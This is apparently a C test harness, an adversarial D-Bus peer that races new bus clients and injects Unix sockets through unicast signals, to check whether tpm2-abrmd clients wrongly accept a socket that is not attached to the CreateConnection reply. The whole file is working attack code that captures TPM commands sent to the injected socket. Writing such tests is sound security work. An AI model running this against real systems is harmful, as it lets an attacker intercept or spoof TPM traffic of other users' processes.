/* Adversarial D-Bus peer for the tpm2-abrmd fd-injection test (issue 10,
 * acceptance 1).
 *
 * A tabrmd client gets its TPM connection as a Unix socket attached to
 * tpm2-abrmd's CreateConnection method reply. A client that takes "the first
 * fd that arrives on the bus connection" instead of the fd attached to that
 * reply can be handed a socket by anyone on the bus: any peer may send a
 * UNICAST signal (destination = the victim's unique name) carrying fds, and
 * both the session bus's and the system bus's default policies allow it
 * (system.conf: <allow send_type="signal"/>; session.conf allows all).
 *
 * This program is that peer. It watches org.freedesktop.DBus NameOwnerChanged
 * and, the moment a new unique name appears (dbus-daemon announces it while
 * handling the victim's Hello, i.e. before the victim can even send
 * CreateConnection), sends a burst of unicast signals to it, each carrying
 * one end of a fresh socketpair, then repeats every --interval-ms for
 * --window-ms. It keeps the other ends and records every byte that arrives
 * on them: a TPM command (tag 0x8001/0x8002) there means the victim used our
 * socket as its TPM. The first complete command on a socket is logged and
 * the socket closed, so the victim gets EOF and fails instead of hanging.
 *
 * Single-threaded libdbus with our own poll loop: no dispatch thread between
 * the NameOwnerChanged arriving and our signal leaving.
 *
 *   abrmd_fd_attacker [--address ADDR] [--duration S] [--window-ms MS]
 *                     [--interval-ms MS] [--burst N] [--ready FILE]
 *                     [--result FILE]
 *
 * Stops after --duration seconds (default 600) or on SIGTERM/SIGINT, then
 * prints (and writes to --result) "targets=N signals=N bytes=N hits=N ...".
 * Exit status: 0 no byte received, 1 bytes received, 2 setup error. */
#include <dbus/dbus.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_SOCKS 4096
#define MAX_TARGETS 4096
#define NAME_MAX_LEN 64

typedef struct target {
    char name[NAME_MAX_LEN];
    int64_t until_ms, next_ms;
    unsigned sent;
    int gone;
} target;

typedef struct sock {
    int fd;           /* our end */
    int target;       /* index into targets */
    uint8_t head[16]; /* first bytes received */
    size_t got;       /* bytes received on this socket */
} sock;

static volatile sig_atomic_t stop;
static target targets[MAX_TARGETS];
static size_t ntargets;
static sock socks[MAX_SOCKS];
static size_t nsocks;
static unsigned long long n_signals, n_bytes, n_hits, n_send_fail, n_skipped;
static int window_ms = 1000, interval_ms = 50, burst = 3;
static const char *self_name = "";

static void on_signal(int sig)
{
    (void)sig;
    stop = 1;
}

static int64_t now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void close_sock(size_t i)
{
    close(socks[i].fd);
    socks[i] = socks[--nsocks];
}

static void log_hit(const sock *s, const char *why)
{
    char hex[3 * sizeof(s->head) + 1] = "";
    size_t n = s->got < sizeof(s->head) ? s->got : sizeof(s->head);
    for (size_t i = 0; i < n; i++)
        snprintf(hex + 3 * i, sizeof(hex) - 3 * i, "%02x ", s->head[i]);
    const char *kind = n >= 2 && s->head[0] == 0x80 && (s->head[1] == 1 || s->head[1] == 2)
                           ? "a TPM command"
                           : "bytes";
    unsigned long cc = n >= 10 ? (unsigned long)s->head[6] << 24 | (unsigned long)s->head[7] << 16 |
                                     (unsigned long)s->head[8] << 8 | s->head[9]
                               : 0;
    fprintf(stderr,
            "abrmd_fd_attacker: HIT: %s sent us %s (%zu bytes%s%s, command code 0x%lx): %s\n",
            targets[s->target].name, kind, s->got, why[0] ? ", " : "", why, cc, hex);
}

/* One unicast signal to t carrying a fresh socket; returns 0 on success. */
static int send_one(DBusConnection *c, size_t ti)
{
    if (nsocks >= MAX_SOCKS) {
        n_skipped++;
        return -1;
    }
    int sv[2];
    if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) != 0) {
        n_skipped++;
        return -1;
    }
    fcntl(sv[0], F_SETFL, fcntl(sv[0], F_GETFL) | O_NONBLOCK);
    DBusMessage *m =
        dbus_message_new_signal("/org/example/Attacker", "org.example.Attacker", "Socket");
    int ok = m && dbus_message_set_destination(m, targets[ti].name) &&
             dbus_message_append_args(m, DBUS_TYPE_UNIX_FD, &sv[1], DBUS_TYPE_INVALID);
    if (ok) {
        dbus_message_set_no_reply(m, TRUE);
        ok = dbus_connection_send(c, m, NULL);
    }
    if (m)
        dbus_message_unref(m); /* libdbus holds its own dup of sv[1] until sent */
    close(sv[1]);
    if (!ok) {
        close(sv[0]);
        n_send_fail++;
        return -1;
    }
    socks[nsocks++] = (sock){.fd = sv[0], .target = (int)ti};
    targets[ti].sent++;
    n_signals++;
    return 0;
}

static void new_name(DBusConnection *c, const char *name)
{
    if (name[0] != ':' || strcmp(name, self_name) == 0 || strlen(name) >= NAME_MAX_LEN)
        return;
    if (ntargets >= MAX_TARGETS) {
        n_skipped++;
        return;
    }
    size_t ti = ntargets++;
    int64_t t = now_ms();
    targets[ti] = (target){.until_ms = t + window_ms, .next_ms = t + interval_ms};
    snprintf(targets[ti].name, sizeof(targets[ti].name), "%s", name);
    for (int i = 0; i < burst; i++)
        send_one(c, ti);
    dbus_connection_flush(c);
}

static void name_gone(const char *name)
{
    for (size_t i = 0; i < ntargets; i++)
        if (!targets[i].gone && strcmp(targets[i].name, name) == 0)
            targets[i].gone = 1;
}

static void handle_messages(DBusConnection *c)
{
    DBusMessage *m;
    while ((m = dbus_connection_pop_message(c)) != NULL) {
        const char *name, *old_owner, *new_owner;
        if (dbus_message_is_signal(m, DBUS_INTERFACE_DBUS, "NameOwnerChanged") &&
            dbus_message_get_args(m, NULL, DBUS_TYPE_STRING, &name, DBUS_TYPE_STRING, &old_owner,
                                  DBUS_TYPE_STRING, &new_owner, DBUS_TYPE_INVALID)) {
            if (name[0] == ':' && old_owner[0] == '\0' && new_owner[0] != '\0')
                new_name(c, name);
            else if (name[0] == ':' && new_owner[0] == '\0')
                name_gone(name);
        }
        dbus_message_unref(m);
    }
}

static void resend_due(DBusConnection *c)
{
    int64_t t = now_ms();
    int any = 0;
    for (size_t i = 0; i < ntargets; i++) {
        target *tg = &targets[i];
        if (tg->gone || t >= tg->until_ms || t < tg->next_ms)
            continue;
        send_one(c, i);
        tg->next_ms = t + interval_ms;
        any = 1;
    }
    if (any)
        dbus_connection_flush(c);
}

/* Read what arrived on socket i; returns 1 if the socket was closed. */
static int drain(size_t i, short revents)
{
    sock *s = &socks[i];
    for (;;) {
        uint8_t buf[4096];
        ssize_t k = recv(s->fd, buf, sizeof(buf), 0);
        if (k > 0) {
            size_t room = s->got < sizeof(s->head) ? sizeof(s->head) - s->got : 0;
            memcpy(s->head + s->got, buf, (size_t)k < room ? (size_t)k : room);
            if (s->got == 0)
                n_hits++;
            s->got += (size_t)k;
            n_bytes += (size_t)k;
            continue;
        }
        if (k < 0 && errno == EINTR)
            continue;
        if (k < 0 && (errno == EAGAIN || errno == EWOULDBLOCK) && !(revents & POLLHUP))
            break;
        /* EOF or error: everyone else dropped the fd (dbus-daemon, victim). */
        if (s->got)
            log_hit(s, "then closed by the victim");
        close_sock(i);
        return 1;
    }
    if (s->got >= 10) {
        uint32_t size = (uint32_t)s->head[2] << 24 | (uint32_t)s->head[3] << 16 |
                        (uint32_t)s->head[4] << 8 | s->head[5];
        if (s->got >= size) { /* a whole command: stop playing, let it fail */
            log_hit(s, "");
            close_sock(i);
            return 1;
        }
    }
    return 0;
}

static const char *arg(int argc, char **argv, int *i)
{
    if (*i + 1 >= argc) {
        fprintf(stderr, "abrmd_fd_attacker: %s needs a value\n", argv[*i]);
        exit(2);
    }
    return argv[++*i];
}

int main(int argc, char **argv)
{
    const char *address = NULL, *ready = NULL, *result = NULL;
    int duration = 600;
    for (int i = 1; i < argc; i++) {
        if (strcmp(argv[i], "--address") == 0)
            address = arg(argc, argv, &i);
        else if (strcmp(argv[i], "--duration") == 0)
            duration = atoi(arg(argc, argv, &i));
        else if (strcmp(argv[i], "--window-ms") == 0)
            window_ms = atoi(arg(argc, argv, &i));
        else if (strcmp(argv[i], "--interval-ms") == 0)
            interval_ms = atoi(arg(argc, argv, &i));
        else if (strcmp(argv[i], "--burst") == 0)
            burst = atoi(arg(argc, argv, &i));
        else if (strcmp(argv[i], "--ready") == 0)
            ready = arg(argc, argv, &i);
        else if (strcmp(argv[i], "--result") == 0)
            result = arg(argc, argv, &i);
        else {
            fprintf(stderr,
                    "usage: %s [--address ADDR] [--duration S] [--window-ms MS] "
                    "[--interval-ms MS] [--burst N] [--ready FILE] [--result FILE]\n",
                    argv[0]);
            return 2;
        }
    }
    if (duration <= 0 || window_ms < 0 || interval_ms <= 0 || burst < 1) {
        fprintf(stderr, "abrmd_fd_attacker: bad numeric option\n");
        return 2;
    }

    struct sigaction sa = {.sa_handler = on_signal}; /* no SA_RESTART: poll returns EINTR */
    sigemptyset(&sa.sa_mask);
    sigaction(SIGTERM, &sa, NULL);
    sigaction(SIGINT, &sa, NULL);
    signal(SIGPIPE, SIG_IGN);
    struct rlimit rl;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < rl.rlim_max) {
        rl.rlim_cur = rl.rlim_max;
        setrlimit(RLIMIT_NOFILE, &rl);
    }

    DBusError err;
    dbus_error_init(&err);
    DBusConnection *c;
    if (address) {
        c = dbus_connection_open_private(address, &err);
        if (c && !dbus_bus_register(c, &err)) {
            dbus_connection_close(c);
            dbus_connection_unref(c);
            c = NULL;
        }
    } else {
        c = dbus_bus_get_private(DBUS_BUS_SESSION, &err);
    }
    if (!c) {
        fprintf(stderr, "abrmd_fd_attacker: cannot connect to the bus: %s\n",
                err.message ? err.message : "?");
        return 2;
    }
    dbus_connection_set_exit_on_disconnect(c, FALSE);
    if (!dbus_connection_can_send_type(c, DBUS_TYPE_UNIX_FD)) {
        fprintf(stderr, "abrmd_fd_attacker: this bus connection cannot pass fds\n");
        return 2;
    }
    self_name = dbus_bus_get_unique_name(c);
    dbus_bus_add_match(c,
                       "type='signal',sender='" DBUS_SERVICE_DBUS
                       "',interface='" DBUS_INTERFACE_DBUS "',member='NameOwnerChanged'",
                       &err); /* blocks for the daemon's reply: subscribed when it returns */
    if (dbus_error_is_set(&err)) {
        fprintf(stderr, "abrmd_fd_attacker: AddMatch: %s\n", err.message);
        return 2;
    }
    int busfd = -1;
    if (!dbus_connection_get_unix_fd(c, &busfd)) {
        fprintf(stderr, "abrmd_fd_attacker: no bus fd\n");
        return 2;
    }
    if (ready) {
        FILE *f = fopen(ready, "w");
        if (f) {
            fprintf(f, "%s\n", self_name);
            fclose(f);
        }
    }
    fprintf(stderr,
            "abrmd_fd_attacker: %s watching for new names (burst %d, every %d ms for %d ms)\n",
            self_name, burst, interval_ms, window_ms);

    int64_t end = now_ms() + (int64_t)duration * 1000;
    static struct pollfd pfd[MAX_SOCKS + 1];
    while (!stop && dbus_connection_get_is_connected(c)) {
        handle_messages(c);
        resend_due(c);
        int64_t t = now_ms();
        if (t >= end)
            break;
        int64_t wait = end - t;
        for (size_t i = 0; i < ntargets; i++)
            if (!targets[i].gone && targets[i].until_ms > t && targets[i].next_ms - t < wait)
                wait = targets[i].next_ms - t < 0 ? 0 : targets[i].next_ms - t;
        if (dbus_connection_get_dispatch_status(c) == DBUS_DISPATCH_DATA_REMAINS)
            wait = 0;
        pfd[0] = (struct pollfd){.fd = busfd, .events = POLLIN};
        for (size_t i = 0; i < nsocks; i++)
            pfd[i + 1] = (struct pollfd){.fd = socks[i].fd, .events = POLLIN};
        size_t n = nsocks;
        int r = poll(pfd, n + 1, (int)(wait > 1000 ? 1000 : wait));
        if (r < 0 && errno != EINTR)
            break;
        if (r > 0 && pfd[0].revents)
            dbus_connection_read_write(c, 0);
        /* Back to front: close_sock moves the last entry into the hole. */
        for (size_t i = n; r > 0 && i-- > 0;)
            if (pfd[i + 1].revents)
                drain(i, pfd[i + 1].revents);
    }
    /* Whatever is still buffered on our sockets counts too. */
    for (size_t i = nsocks; i-- > 0;)
        if (!drain(i, 0) && socks[i].got)
            log_hit(&socks[i], "victim still holding it at exit");

    char line[256];
    snprintf(line, sizeof(line),
             "targets=%zu signals=%llu bytes=%llu hits=%llu send_failures=%llu skipped=%llu\n",
             ntargets, n_signals, n_bytes, n_hits, n_send_fail, n_skipped);
    fputs(line, stdout);
    fflush(stdout);
    if (result) {
        FILE *f = fopen(result, "w");
        if (f) {
            fputs(line, f);
            for (size_t i = 0; i < ntargets; i++)
                fprintf(f, "target %s signals=%u\n", targets[i].name, targets[i].sent);
            fclose(f);
        }
    }
    for (size_t i = nsocks; i-- > 0;)
        close_sock(i);
    dbus_connection_close(c);
    dbus_connection_unref(c);
    return n_bytes ? 1 : 0;
}
